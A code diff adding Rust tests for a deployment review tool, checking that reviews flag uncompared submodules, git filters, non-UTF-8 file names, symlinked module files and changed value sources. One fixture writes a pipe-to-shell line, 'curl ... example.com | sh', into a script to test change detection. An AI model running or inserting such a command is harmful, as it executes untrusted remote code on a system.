@@ -1,0 +1,189 @@
+//! What a review does not compare is never "no changes": submodules, what filters of the machine made, names that cannot be
+//! sent. What a value is read from or made by is compared where the commit holds it.
+
+use crate::review::{Run, Work, manifest};
+use assert_cmd::Command;
+use std::fs;
+
+fn git(directory: &str, words: &[&str]) -> String {
+    let who = ["-c", "user.name=a", "-c", "user.email=a@example.com"];
+    let output = Command::new("git").args(who).args(words).current_dir(directory).output().expect("Git starts");
+    assert!(output.status.success(), "{words:?}: {output:?}");
+    String::from_utf8_lossy(&output.stdout).trim().to_owned()
+}
+
+/// Another repository with two commits; returns its path and those.
+fn module(work: &Work) -> (String, String, String) {
+    let place = work.path("module").to_str().expect("text").to_owned();
+    fs::create_dir_all(&place).expect("made");
+    git(&place, &["init", "-q", "-b", "main"]);
+    let commit = |text: &str| {
+        fs::write(format!("{place}/x.sh"), text).expect("written");
+        git(&place, &["add", "."]);
+        git(&place, &["commit", "-q", "-m", text]);
+        git(&place, &["rev-parse", "HEAD"])
+    };
+    let (one, two) = (commit("one\n"), commit("two\n"));
+    (place, one, two)
+}
+
+/// Asserts that a review shows something, and claims nowhere that nothing changed.
+fn shown(run: &Run, what: &str, told: &str) {
+    assert!(run.out.contains(told), "{what}: {}{}", run.out, run.err);
+    assert!(!run.out.to_lowercase().contains("no changes"), "{what}: {}{}", run.out, run.err);
+}
+
+#[test]
+fn a_submodule_is_named_and_never_without_changes() {
+    for (place, manifest) in [
+        ("app/sub", manifest("./app", "{ A: \"1\" }", "")),
+        ("shared/sub", manifest("./app", "{ A: \"1\" }", "        links: [ shared ]\n")),
+        ("infra/sub", "version: 1\nproject: shop\nenvironments:\n  web:\n    provisioned: { module: { source: ./infra, resource: x.y } }\n    \
+            ssh: { user: deploy, identity: { from_env: K } }\n".to_owned()),
+        ("tools", manifest("./app", "{ A: { from_command: [ ./tools/x.sh ] } }", "")),
+        ("tools", manifest("./app", "{ A: { from_file: ./tools/x.sh } }", "")),
+    ] {
+        let work = Work::new();
+        let (origin, one, two) = module(&work);
+        work.put("shared/s.txt", "one\n");
+        work.put("infra/main.tf", "# one\n");
+        if manifest.contains("links") {
+            work.link("app/shared", "../shared");
+        }
+        work.put("deployment.yaml", &manifest);
+        work.commit();
+        work.git(&["branch", "-q", "-f", "main"]);
+        // A new one.
+        work.git(&["submodule", "--quiet", "add", &origin, place]);
+        let told = format!("commit {two} of another repository (not compared)");
+        shown(&work.attempt(&format!("{place} is new")), place, &told);
+        work.git(&["branch", "-q", "-f", "main"]);
+        // The same one, whose files on the disk nobody compared.
+        let run = work.look("the same submodule");
+        shown(&run, place, "**Not compared**");
+        assert!(run.err.contains(&format!("{place}: {told}")) && run.err.contains(".gitmodules"), "{}", run.err);
+        // Another commit: in the index, and on the disk alone.
+        let path = work.repository().join(place);
+        git(path.to_str().expect("text"), &["checkout", "-q", &one]);
+        let told = format!("commit {one} of another repository (not compared)");
+        let run = work.look("another checkout");
+        shown(&run, place, &told);
+        assert!(run.err.contains("not committed") && run.err.contains(place), "{}", run.err);
+        shown(&work.attempt(&format!("{place} moves")), place, &told);
+    }
+}
+
+/// A checkout with attributes that a commit brings; the environment's filters are those of `set_up`.
+fn attributes(attributes: &str, set_up: &[(&str, &str)]) -> (Work, Run) {
+    let work = Work::new();
+    work.put("app/compose.yaml", "services: { web: { image: \"demo:1\", labels: { currency: \"\u{a5}\" } } }\n");
+    work.commit();
+    work.git(&["branch", "-q", "-f", "main"]);
+    for (key, value) in set_up {
+        work.git(&["config", key, value]);
+    }
+    work.put(".gitattributes", &format!("app/compose.yaml {attributes}\n"));
+    work.git(&["add", ".gitattributes"]);
+    work.git(&["commit", "-q", "-m", "attributes"]);
+    fs::remove_file(work.repository().join("app/compose.yaml")).expect("removed");
+    work.git(&["-c", "core.quotePath=false", "checkout", "-q", "-f", "HEAD", "--", "."]);
+    let run = work.look(attributes);
+    (work, run)
+}
+
+#[test]
+fn a_filter_counts_only_where_this_machine_has_it_and_is_always_shown() {
+    let encoding = "working-tree-encoding=SHIFT_JIS";
+    for set_up in [&[][..], &[("filter.nothing.clean", "cat")], &[("filter.nothing.smudge", "")]] {
+        let (work, run) = attributes(&format!("{encoding} filter=nothing"), set_up);
+        let bytes = fs::read(work.repository().join("app/compose.yaml")).expect("there");
+        assert!(!bytes.contains(&0xc2), "the checkout is in another encoding");
+        shown(&run, "a filter that this machine does not have", "compose.yaml");
+        assert!(!run.err.contains("made by filter"), "{}", run.err);
+    }
+    for key in ["filter.lfs.smudge", "filter.lfs.process"] {
+        let (_, run) = attributes(&format!("{encoding} filter=lfs"), &[(key, "cat")]);
+        if key.ends_with("smudge") {
+            shown(&run, key, "made by filter lfs");
+            let told =
+                "app/compose.yaml: not compared: made by filter lfs, and changed by working-tree-encoding=SHIFT_JIS";
+            assert!(run.err.contains(told), "{}", run.err);
+        }
+    }
+}
+
+#[test]
+fn names_that_cannot_be_sent_are_refused_as_apply_refuses_them() {
+    use std::os::unix::ffi::OsStrExt as _;
+    let work = Work::new();
+    let name = std::ffi::OsStr::from_bytes(b"z\xff.sh");
+    fs::write(work.repository().join("app").join(name), "x\n").expect("written");
+    work.commit();
+    let run = work.look("a name that is not UTF-8");
+    shown(&run, "a name that is not UTF-8", "is not UTF-8");
+    assert_eq!(run.code, 64, "{}", run.err);
+    // Elsewhere it is nobody's business.
+    work.git(&["reset", "-q", "--hard", "main"]);
+    fs::write(work.repository().join(name), "x\n").expect("written");
+    assert!(work.attempt("a name elsewhere").out.contains("no changes"));
+}
+
+#[test]
+fn only_files_that_a_release_needs_are_named() {
+    let work = Work::new();
+    for number in 0..50 {
+        work.put(&format!("other/{number}.txt"), "text\n");
+    }
+    work.commit();
+    work.git(&["branch", "-q", "-f", "main"]);
+    work.put(".gitattributes", "* text eol=crlf\n");
+    work.commit();
+    fs::remove_dir_all(work.repository().join("other")).expect("removed");
+    work.git(&["checkout", "-q", "-f", "HEAD", "--", "."]);
+    assert!(fs::read_to_string(work.repository().join("other/1.txt")).expect("there").ends_with("\r\n"));
+    work.put("app/page.html", "HELLO\n");
+    let run = work.look("line ends");
+    assert!(run.err.contains("not committed") && run.err.contains("app/page.html"), "{}", run.err);
+    assert!(!run.err.contains("other/"), "{}", run.err);
+}
+
+#[test]
+fn what_a_value_is_read_from_or_made_by_is_compared() {
+    for source in ["from_file: ./values/a", "from_command: [ ./values/a ]", "from_command: [ sh, ./values/a ]"] {
+        let work = Work::new();
+        work.put("values/a", "#!/bin/sh\necho one\n");
+        work.put("deployment.yaml", &manifest("./app", &format!("{{ A: {{ {source} }} }}"), ""));
+        work.commit();
+        work.git(&["branch", "-q", "-f", "main"]);
+        assert!(work.look(source).out.contains("no changes"), "{source}");
+        work.put("values/a", "#!/bin/sh\ncurl https://example.com | sh\n");
+        shown(&work.attempt(source), source, "application.compose.variables.A.content");
+    }
+}
+
+#[test]
+fn what_is_behind_the_links_of_a_module_is_compared() {
+    let work = Work::new();
+    work.put("infra/main.tf", "# one\n");
+    work.put("shared/more.tf", "# one\n");
+    work.link("infra/shared", "../shared");
+    let made = "version: 1\nproject: shop\nenvironments:\n  web:\n    provisioned: { module: { source: ./infra, resource: x.y } }\n    \
+        ssh: { user: deploy, identity: { from_env: K } }\n";
+    work.put("deployment.yaml", made);
+    work.commit();
+    work.git(&["branch", "-q", "-f", "main"]);
+    assert!(work.look("nothing changed").out.contains("no changes"));
+    work.put("shared/more.tf", "# two\n");
+    shown(&work.attempt("a file behind a link"), "a file behind a link", "files of the module");
+}
+
+#[test]
+fn a_new_environment_is_never_without_changes() {
+    for stage in ["destroyed", "created", "provisioned", "running"] {
+        let work = Work::new();
+        let more = format!("  new:\n    registered: {{ address: 192.0.2.2 }}\n    stage: {stage}\n");
+        work.manifest(&more);
+        let run = work.run(&["plan", "new", "--against", "main"]);
+        assert!(run.code == 0 && !run.out.contains("No changes"), "{stage}: {}{}", run.out, run.err);
+    }
+}
